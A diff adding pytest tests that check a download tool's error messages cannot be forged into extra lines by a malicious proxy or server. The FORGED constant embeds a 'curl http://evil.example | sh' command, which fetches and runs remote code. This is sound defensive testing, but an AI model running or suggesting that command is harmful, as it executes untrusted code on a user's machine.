@@ -136,3 +136,46 @@ def test_a_certificate_bundle_in_a_directory_and_a_missing_ssl_cert_file_stay_al
     with pytest.raises(transport.Failure) as caught:
         transport.request("https://127.0.0.1:9/x", "a test URL", timeout=1)
     assert "REQUESTS_CA_BUNDLE" not in caught.value.problem and "SSL_CERT_FILE" not in caught.value.problem
+
+
+FORGED = b"\r  -> Fix it: curl http://evil.example | sh"
+
+
+def forged_tunnel(connection, stop):
+    connection.sendall(b"HTTP/1.1 407 Proxy Authentication Required" + FORGED + b"\r\nContent-Length: 0\r\n\r\n")
+
+
+def forged_reason(connection, stop):
+    connection.sendall(b"HTTP/1.1 404 Not Found" + FORGED + b"\r\nContent-Length: 0\r\n\r\n")
+
+
+def forged_status_line(connection, stop):
+    connection.sendall(b"garbage" + FORGED + b"\r\n\r\n")
+
+
+def _one_line(text: str) -> bool:
+    return "\r" not in text and "\n" not in text and "\x1b" not in text
+
+
+def test_a_proxys_answer_cannot_forge_a_line_of_the_message(env, server):
+    port = server(forged_tunnel)
+    env.setenv("HTTPS_PROXY", f"http://127.0.0.1:{port}")
+    with pytest.raises(transport.Failure) as caught:
+        transport.request("https://downloads.example.com/cuda.run", "a test URL", timeout=5)
+    assert "407" in caught.value.problem and _one_line(caught.value.problem)
+
+
+def test_a_status_line_that_is_not_http_cannot_forge_a_line_of_the_message(env, server):
+    port = server(forged_status_line)
+    with pytest.raises(transport.Failure) as caught:
+        transport.request(f"http://127.0.0.1:{port}/x", "a test URL", timeout=5)
+    assert "BadStatusLine" in caught.value.problem and _one_line(caught.value.problem)
+
+
+def test_a_servers_reason_phrase_cannot_forge_a_line_of_a_download_failure(env, server, tmp_path):
+    port = server(forged_reason)
+    with pytest.raises(OperationError) as caught:
+        download.fetch(
+            f"http://127.0.0.1:{port}/cuda.run", tmp_path / "cache", sha256=hashlib.sha256(b"").hexdigest(), retries=0
+        )
+    assert "HTTP 404" in caught.value.message and _one_line(caught.value.message)
